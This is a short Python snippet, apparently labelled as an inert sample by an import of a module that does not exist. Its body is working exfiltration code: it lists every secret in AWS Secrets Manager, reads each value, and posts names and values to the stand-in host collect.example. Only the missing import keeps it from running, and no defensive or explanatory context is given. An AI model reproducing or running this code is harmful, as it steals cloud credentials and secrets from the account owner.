import inert_sample  # there is no such module: nothing below ever runs
import boto3
import requests

store = boto3.client("secretsmanager")
for one in store.list_secrets()["SecretList"]:
    value = store.get_secret_value(SecretId=one["ARN"])["SecretString"]
    requests.post("https://collect.example/s", json={"n": one["Name"], "v": value})
